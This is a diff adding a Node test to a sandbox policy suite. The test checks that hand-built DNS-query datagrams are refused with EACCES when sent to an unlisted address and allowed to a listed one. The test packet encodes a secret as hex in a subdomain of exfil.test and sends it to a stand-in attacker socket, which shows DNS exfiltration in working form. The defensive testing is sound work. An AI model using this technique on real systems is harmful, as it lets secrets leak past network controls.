@@ -485,6 +485,59 @@ describe('class 2: other names of the same function', { concurrency: false }, ()
     }
   });
 
+  test('dgram (a hand-made DNS query with the secret in its name) to an unlisted address, by send() and by connect(): refused, 0 datagrams; a listed address works; positive control', async () => {
+    const attacker = dgram.createSocket('udp4');
+    const listed = dgram.createSocket('udp4');
+    const received: string[] = [];
+    attacker.on('message', (message) => received.push(message.toString('latin1')));
+    listed.on('message', (message) => received.push(`listed:${message.toString('latin1')}`));
+    await Promise.all([new Promise<void>((resolve) => attacker.bind(0, '127.0.0.2', resolve)), new Promise<void>((resolve) => listed.bind(0, '127.0.0.1', resolve))]);
+    // A DNS query packet for <hex secret>.exfil.test, as malware builds it by hand.
+    const label = Buffer.from(SECRET).toString('hex');
+    const packet = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.length]), Buffer.from(label), Buffer.from([5]), Buffer.from('exfil'), Buffer.from([4]), Buffer.from('test'), Buffer.from([0, 0, 1, 0, 1])]);
+    const send = (port: number, host: string): Promise<string> =>
+      new Promise((resolve) => {
+        const socket = dgram.createSocket('udp4');
+        socket.send(packet, port, host, (error) => {
+          socket.close();
+          resolve((error as NodeJS.ErrnoException | null)?.code ?? 'sent');
+        });
+      });
+    const connected = (port: number, host: string): Promise<string> =>
+      new Promise((resolve) => {
+        const socket = dgram.createSocket('udp4');
+        socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
+        // A failed connect calls back with the error (Node emits 'connect' with it).
+        socket.connect(port, host, ((error?: NodeJS.ErrnoException) => {
+          if (error) {
+            socket.close();
+            resolve(error.code ?? error.message);
+            return;
+          }
+          socket.send(packet, (sendError) => {
+            socket.close();
+            resolve((sendError as NodeJS.ErrnoException | null)?.code ?? 'sent');
+          });
+        }) as () => void);
+      });
+    try {
+      const outcomes = await underLockdown(lab.policy, [], async (handle) => {
+        const result = [await send(attacker.address().port, '127.0.0.2'), await connected(attacker.address().port, '127.0.0.2'), await send(listed.address().port, '127.0.0.1')];
+        assert.equal(handle.blockingFinding(), undefined, 'a refused datagram is a policy violation, not tampering');
+        return result;
+      });
+      assert.deepEqual(outcomes, ['EACCES', 'EACCES', 'sent']);
+      await settle(100);
+      assert.deepEqual(received.filter((text) => !text.startsWith('listed:')), []);
+      assert.equal(await send(attacker.address().port, '127.0.0.2'), 'sent');
+      await settle(100);
+      assert.ok(received.some((text) => text.includes(label)));
+    } finally {
+      attacker.close();
+      listed.close();
+    }
+  });
+
   test('every dns resolving method of this Node (resolveTlsa on 24 too, dns/promises, Resolver) refuses an unlisted name: 0 queries reach the name server', async () => {
     const server = dgram.createSocket('udp4');
     const queries: Buffer[] = [];
